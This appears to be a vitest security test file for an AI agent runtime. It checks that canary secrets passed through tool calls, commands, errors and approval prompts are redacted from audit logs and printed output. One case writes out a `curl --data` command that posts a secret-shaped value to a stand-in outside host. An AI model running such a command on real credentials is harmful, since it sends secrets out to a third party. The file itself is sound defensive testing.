/** Secrets stay out of the audit, and of everything else that is kept or printed. */
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect } from 'vitest';
import { z } from 'zod';
import {
  defineDialect,
  defineOperation,
  defineTool,
  type Rule,
  type Runtime,
  type RuntimeEvent,
} from '../../src/index.ts';
import { coder } from '../../src/dialects/coder/index.ts';
import { approver } from '../support/approver.ts';
import { environmentOf, LAUNCHER } from '../support/command-line.ts';
import { type TempWorkspace, tempWorkspace } from '../support/temp-workspace.ts';
import { ALIVE, type Attack, testAttacks } from './attack-case.ts';
import { closedRecords, filesHolding } from './evidence.ts';
import { rawJsonLog } from './undefended.ts';

const CANARY = 'Canary7f3a91c2e4b8d0556Z';

/** The canary in the clothes that secrets wear. */
const SECRETS: Readonly<Record<string, string>> = {
  'a token': `ghp_${CANARY}${CANARY}`,
  'a URL with a password': `https://deploy:${CANARY}@git.example/x`,
  'a header': `Authorization: Bearer ${CANARY}`,
  'a line of an environment': `API_KEY=${CANARY}`,
  'a field of JSON': `{"client_secret":"${CANARY}"}`,
  'a private key': `-----BEGIN PRIVATE KEY-----\n${CANARY}${CANARY}\n-----END PRIVATE KEY-----`,
};

/** Those that are secrets by their own shape, whatever name they stand behind. */
const SHAPED = ['a token', 'a URL with a password', 'a private key'];

/** Makes a call that carries the secret somewhere. */
type SendSecret = (runtime: Runtime, secret: string, workspace: TempWorkspace) => Promise<unknown>;

/** The places a call can carry a secret in. */
const PLACES: Readonly<Record<string, SendSecret>> = {
  'what is written': (runtime, secret) => runtime.call('write', { path: 'new.txt', content: `${secret}\n` }),
  'what is replaced': (runtime, secret, workspace) => {
    workspace.write('old.txt', secret);
    return runtime.call('write', { path: 'old.txt', content: 'harmless' });
  },
  'what is read': (runtime, secret, workspace) => {
    workspace.write('read.txt', secret);
    return runtime.call('read', { path: 'read.txt' });
  },
  'a field that does not exist': (runtime, secret) =>
    runtime.call('read', { path: 'alive.txt', headers: { x: [secret] } }),
  'the name of a field': (runtime, secret) => runtime.call('read', { path: 'alive.txt', [secret]: 1 }),
  'a field named like a secret': (runtime) => runtime.call('read', { path: 'alive.txt', password: CANARY }),
  'a list of arguments': (runtime, secret) =>
    runtime.call('read', { args: ['login', '--password', CANARY, secret] }),
  'an environment': (runtime, secret) =>
    runtime.call('read', { env: { DB_PASSWORD: CANARY, OTHER: secret } }),
  'a value of the wrong type': (runtime, secret) => runtime.call('read', { path: { value: secret } }),
  // A name is taken apart at an `@`, and then a URL is none any more.
  'the name of a tool': (runtime, secret) =>
    runtime.call(secret.includes('@') ? SECRETS['a token']! : secret, {}),
  'the output of a command': (runtime, secret, workspace) => {
    workspace.write('read.txt', secret);
    return runtime.call('bash', { command: 'cat read.txt' });
  },
  'the errors of a command that fails': (runtime, secret, workspace) => {
    workspace.write('read.txt', secret);
    return runtime.call('bash', { command: 'cat read.txt >&2; exit 3' });
  },
  'a command': (runtime, secret) => runtime.call('bash', { command: `echo '${secret}' > /dev/null` }),
  'the message of a bug': (runtime, secret) => runtime.call('break', { text: secret }),
};

/** A tool with a bug that puts its argument into the message of what it throws. */
const breaking = defineDialect({
  name: 'breaking',
  extends: coder,
  tools: [
    defineTool({
      name: 'break',
      version: '1.0.0',
      description: 'Breaks.',
      args: z.strictObject({ text: z.string() }),
      returns: z.null(),
      operation: defineOperation({
        name: 'test.break',
        summary: 'Breaks.',
        input: z.strictObject({ text: z.string() }),
        output: z.null(),
        permissions: [],
        effect: 'read',
        access: () => [],
        async run({ text }) {
          throw new Error(`can not connect: ${text}`);
        },
      }),
      toInput: (args) => args,
    }),
  ],
});

function secretIn([place, send]: [string, SendSecret]): Attack {
  return {
    id: 'AU-01',
    title: `a secret in ${place} (CVE-2026-44969, CVE-2026-20205)`,
    attack: async () => {
      for (const [kind, secret] of Object.entries(SECRETS)) {
        await using workspace = tempWorkspace(ALIVE);
        // Nobody is asked: a question has to show what it is about, and is looked at below.
        const rules: Rule[] = [{ action: 'allow', permission: '*' }];
        const runtime = await workspace.runtime({ rules, dialects: [breaking], dialect: 'breaking' });
        await send(runtime, secret, workspace);
        await runtime.flush();
        const { state } = workspace.locations;
        expect({ kind, calls: closedRecords(state).length, leaks: filesHolding(state, CANARY) }).toEqual({
          kind,
          calls: 1,
          leaks: [],
        });
        expect(await runtime.call('read', { path: 'alive.txt' })).toMatchObject({ result: { ok: true } });
      }
    },
    bites: async () => {
      await using workspace = tempWorkspace();
      rawJsonLog(join(workspace.outside, 'log')).write({ place, args: SECRETS });
      expect(filesHolding(workspace.outside, CANARY)).toHaveLength(1);
    },
  };
}

const SECRETS_SHOWN: readonly Attack[] = [
  {
    id: 'AU-01',
    title: 'a secret on the command line, and in its environment',
    attack: async () => {
      await using workspace = tempWorkspace(ALIVE);
      const content = SHAPED.map((kind) => SECRETS[kind]).join('\n');
      const args = JSON.stringify({ path: 'new.txt', content, token: CANARY });
      const env: Record<string, string> = {
        ...environmentOf(workspace),
        GITHUB_TOKEN: CANARY,
        SECRET: SECRETS['a token']!,
      };
      const printed: string[] = [];
      const run = (...words: string[]): number | null => {
        const { stdout, stderr, status } = spawnSync(process.execPath, [LAUNCHER, ...words], {
          cwd: workspace.root,
          env,
          input: args,
        });
        printed.push(stdout.toString(), stderr.toString());
        return status;
      };
      expect(
        run(
          'call',
          'write_file',
          JSON.stringify({ path: 'new.txt', content }),
          '--dialect',
          'codelab',
          '--yes',
        ),
      ).toBe(0);
      expect(run('call', 'write_file', '-', '--dialect', 'codelab', '--yes')).toBe(1);
      expect(run('call', 'write', JSON.stringify({ path: 'other.txt', content }))).toBe(3);
      const state = env['XDG_STATE_HOME']!;
      for (const { call_id } of closedRecords(state)) expect(run('audit', 'show', call_id)).toBe(0);
      expect(run('audit', 'list', '--json')).toBe(0);
      expect(run('audit', 'verify')).toBe(0);
      expect(run('doctor')).not.toBe(2);
      expect(printed.filter((text) => text.includes(CANARY))).toEqual([]);
      expect(filesHolding(state, CANARY)).toEqual([]);
      expect(closedRecords(state)).toHaveLength(3);
    },
    bites: async () => {
      await using workspace = tempWorkspace();
      rawJsonLog(join(workspace.outside, 'log')).write({ env: { GITHUB_TOKEN: CANARY } });
      expect(filesHolding(workspace.outside, CANARY)).toHaveLength(1);
    },
  },
  {
    id: 'AU-05',
    title: 'a secret in a question to a human',
    attack: async () => {
      // Only what is a secret by its own shape: behind a mere name, code could hide from the one who is asked.
      for (const kind of SHAPED) {
        await using workspace = tempWorkspace();
        const approve = approver('deny');
        const runtime = await workspace.runtime({ approve });
        const events: RuntimeEvent[] = [];
        runtime.subscribe((event) => events.push(event));
        for (const secret of [SECRETS[kind]!, SECRETS[kind]!.replaceAll('7f3a', '0000')]) {
          await runtime.call('write', {
            path: 'deploy/notes.txt',
            content: `host: git.example\n${secret}\n`,
          });
        }
        expect(JSON.stringify([approve.asked, events])).not.toMatch(/Canary(7f3a|0000)/);
        await runtime.flush();
        expect(filesHolding(workspace.locations.state, 'Canary7f3a', 'Canary0000')).toEqual([]);
        const [first, second] = approve.asked;
        expect(first).toMatchObject({
          tool: 'write',
          accesses: [{ resource: 'deploy/notes.txt' }, { resolved: 'deploy/notes.txt' }],
          preview: { text: expect.stringMatching(/host: git\.example[^]*\[redacted\]/) },
        });
        // What is hidden from the eye is still bound by the hash.
        expect(first?.hash).not.toBe(second?.hash);
      }
    },
    bites: async () => {
      await using workspace = tempWorkspace();
      rawJsonLog(join(workspace.outside, 'questions')).write({ preview: SECRETS });
      expect(filesHolding(workspace.outside, CANARY)).toHaveLength(1);
    },
  },
  {
    id: 'AU-05',
    title: 'a secret in a command that a human is asked about',
    attack: async () => {
      for (const kind of SHAPED) {
        await using workspace = tempWorkspace();
        const approve = approver('deny');
        const runtime = await workspace.runtime({ approve });
        const events: RuntimeEvent[] = [];
        runtime.subscribe((event) => events.push(event));
        for (const secret of [SECRETS[kind]!, SECRETS[kind]!.replaceAll('7f3a', '0000')])
          await runtime.call('bash', {
            command: `curl --data '${secret}' https://host.example/x > made.txt`,
          });
        expect(JSON.stringify([approve.asked, events])).not.toMatch(/Canary(7f3a|0000)/);
        await runtime.flush();
        expect(filesHolding(workspace.locations.state, 'Canary7f3a', 'Canary0000')).toEqual([]);
        const [first, second] = approve.asked;
        const shown = expect.stringMatching(
          /curl --data [^]*\[redacted\][^]* https:\/\/host\.example\/x > made\.txt/,
        ) as string;
        expect(first).toMatchObject({ args: { command: shown }, preview: { text: shown } });
        expect(first?.hash).not.toBe(second?.hash);
      }
    },
    bites: async () => {
      await using workspace = tempWorkspace();
      rawJsonLog(join(workspace.outside, 'questions')).write({ command: `curl --data '${CANARY}'` });
      expect(filesHolding(workspace.outside, CANARY)).toHaveLength(1);
    },
  },
];

describe('secrets', () => {
  testAttacks(Object.entries(PLACES).map(secretIn));

  testAttacks(SECRETS_SHOWN);
});
